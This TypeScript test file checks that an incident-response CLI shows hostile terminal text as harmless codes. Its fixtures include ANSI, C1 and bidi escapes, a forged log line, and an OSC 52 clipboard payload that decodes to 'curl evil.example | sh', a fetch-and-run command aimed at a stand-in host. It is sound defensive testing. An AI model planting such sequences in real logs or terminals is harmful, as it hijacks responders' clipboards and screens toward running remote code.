// Nothing from the log can drive the responder's terminal. An incident is
// filled, command by command, with text carrying escape sequences (OSC 52
// writing the clipboard, CSI clearing the screen, a C1 CSI), BEL, backspace,
// carriage return, DEL, bidi overrides and line breaks, in titles, notes,
// reasons, updates, asks, contact names, a teammate's actor, and the captured
// output of `oncall run`. Every reading command must show them as codes: no raw
// control byte reaches stdout or stderr, and a note with a line break stays one
// timeline line. The log itself keeps the text exactly as given.
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  type Box,
  oncall,
  onlyIncidentId,
  type Result,
  readEvents,
  sandbox,
} from '../../helpers/in-process.js';
import { TEAM_CONFIG } from '../../helpers/team.js';

const OSC52 = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07';
const CLEAR = '\x1b[2J\x1b[H';
const C1_CSI = '\u009b31m';
const RLO = '\u202e';

const TITLE = `Checkout ${CLEAR}down${RLO}`;
const NOTE = `copied the token ${OSC52} from the dashboard`;
const FORGED = 'first line\n00:00  mallory@host     decision: forged';
const HYPOTHESIS = `pool exhausted ${C1_CSI} on db-1`;
const RULED_OUT = `DNS\u2066 fine\u2069 \x7f`;
const REASON = `errors doubled\x07\x08\x08\x08\x08tripled\rOVERWRITTEN`;
const UPDATE = `Rolling back${CLEAR} now`;
const ASK = `Check db-1 ${OSC52}`;
const HANDOFF_NOTE = `over to you\u202d\x1b[1A\x1b[2K`;
const ACTOR = `mallory\x1b[2J@host`;
/** Printed by the recorded command: what `kubectl logs` might carry. */
const OUTPUT = `pod web-1 ok\\n${'\\x1b'}]52;c;ZWNobyBwd25lZA==${'\\x07'} ${'\\u009b'}2J last line${'\\u202e'}\\n`;

/** A contact whose name (from the team's config) carries escapes: YAML double-quoted escapes. */
const EVE = `  eve:
    name: "Eve \\e]52;c;ZXZl\\a Ops\\u202e"
    role: "security \\x9b2J on-call"
`;

/**
 * Bytes that act on a terminal: C0 controls but line feed (and tab), DEL, C1,
 * bidi embeddings, overrides and isolates.
 */
const ACTIVE =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding raw control bytes is the point
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

function expectInert(what: string, r: Result): void {
  expect(r.code, `${what}: ${r.stderr}`).toBe(0);
  const raw = (s: string) => s.match(ACTIVE)?.[0]?.codePointAt(0)?.toString(16);
  expect(raw(r.stdout), `${what} stdout has U+${raw(r.stdout)}`).toBeUndefined();
  expect(raw(r.stderr), `${what} stderr has U+${raw(r.stderr)}`).toBeUndefined();
}

describe('text that would drive the terminal', () => {
  let box: Box;
  let id: string;

  beforeAll(async () => {
    box = sandbox({ ONCALL_ACTOR: 'alice@host' });
    writeFileSync(
      join(box.cwd, 'oncall.config.yaml'),
      TEAM_CONFIG.replace('contacts:\n', `contacts:\n${EVE}`),
    );
    const started = await oncall(box, [
      'start',
      '--title',
      TITLE,
      '--sev',
      'SEV2',
      '--impact',
      `checkouts fail ${C1_CSI}`,
      '--no-input',
      '--runbook',
      'none',
    ]);
    expectInert('start', started);
    id = onlyIncidentId(box);
    const steps: string[][] = [
      ['note', NOTE],
      ['note', FORGED],
      ['note', '--hypothesis', HYPOTHESIS],
      ['note', '--ruled-out', RULED_OUT],
      ['sev', 'SEV1', '--reason', REASON],
    ];
    for (const args of steps) expect((await oncall(box, args)).code, args.join(' ')).toBe(0);
    const teammate = { ...box, env: { ...box.env, ONCALL_ACTOR: ACTOR } };
    expect((await oncall(teammate, ['note', '--finding', 'seen from the other laptop'])).code).toBe(
      0,
    );
    // A failing command whose output carries escapes: recorded with its tail.
    const run = await oncall(box, [
      'run',
      '--',
      process.execPath,
      '-e',
      `process.stdout.write("${OUTPUT}"); process.exit(4)`,
    ]);
    expect(run.code).toBe(4);
  });

  it('keeps the original text in the log', async () => {
    const events = readEvents(box);
    expect(events.find((e) => e.type === 'incident.opened')?.title).toBe(TITLE);
    const texts = events.flatMap((e) => (typeof e.text === 'string' ? [e.text] : []));
    expect(texts).toContain(NOTE);
    expect(texts).toContain(FORGED);
    expect(events.find((e) => e.type === 'severity.changed')?.reason).toBe(REASON);
    const finished = events.find((e) => e.type === 'command.finished');
    expect(String(finished?.outputTail)).toContain('\x1b]52;c;ZWNobyBwd25lZA==\x07');
    expect(events.some((e) => e.actor === ACTOR)).toBe(true);
  });

  it('timeline shows every text as codes, a note with a line break on one line', async () => {
    const r = await oncall(box, ['timeline']);
    expectInert('timeline', r);
    expect(r.stdout).toContain('copied the token \\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07');
    expect(r.stdout).toContain('\\x9b31m');
    expect(r.stdout).toContain('mallory\\x1b[2J@host');
    const lines = r.stdout.split('\n');
    const forged = lines.filter((l) => l.includes('first line'));
    expect(forged).toHaveLength(1);
    expect(forged[0]).toContain('first line ⏎ 00:00  mallory@host     decision: forged');
    expect(lines.filter((l) => l.startsWith('00:00  mallory'))).toEqual([]);
  });

  it('timeline --md keeps one table row per event', async () => {
    const r = await oncall(box, ['timeline', '--md']);
    expectInert('timeline --md', r);
    const rows = r.stdout.split('\n').filter((l) => l.startsWith('| '));
    for (const row of rows) expect(row.endsWith('|')).toBe(true);
    expect(rows.filter((l) => l.includes('first line'))).toHaveLength(1);
  });

  it('status, bare oncall and list', async () => {
    for (const args of [['status'], [], ['list']]) {
      const r = await oncall(box, args);
      expectInert(`oncall ${args.join(' ')}`, r);
      expect(r.stdout).toContain('\\x1b[2J');
    }
  });

  it('escalate --long, to a contact whose name carries escapes, with such an ask', async () => {
    const r = await oncall(box, ['escalate', '--to', 'eve', '--ask', ASK, '--long']);
    expectInert('escalate --long', r);
    expect(r.stdout).toContain('Eve \\x1b]52;c;ZXZl\\x07 Ops\\u202e');
    expect(r.stdout).toContain('**The ask:** Check db-1 \\x1b]52');
    // The failed command's last output line, from the recorded tail.
    expect(r.stdout).toContain('\\x9b2J last line\\u202e');
    expect(r.stderr).toContain('Escalation to Eve \\x1b]52');
  });

  it('update', async () => {
    const r = await oncall(box, ['update', UPDATE]);
    expectInert('update', r);
    expect(r.stdout).toContain('Rolling back\\x1b[2J\\x1b[H now');
  });

  it('handoff', async () => {
    const r = await oncall(box, ['handoff', '--to', 'eve', '--note', HANDOFF_NOTE]);
    expectInert('handoff', r);
    expect(r.stdout).toContain('> over to you\\u202d\\x1b[1A\\x1b[2K');
  });

  it('postmortem, on stdout and in the file', async () => {
    const r = await oncall(box, ['postmortem']);
    expectInert('postmortem', r);
    const draft = readFileSync(join(box.home, 'incidents', id, 'postmortem.md'), 'utf8');
    expect(draft.match(ACTIVE)).toBeNull();
    expect(draft).toContain('errors doubled\\x07\\x08\\x08\\x08\\x08tripled\\x0dOVERWRITTEN');
    const rows = draft.split('\n').filter((l) => l.includes('first line'));
    expect(rows).toHaveLength(1);
    expect(rows[0]?.endsWith('|')).toBe(true);
  });
});
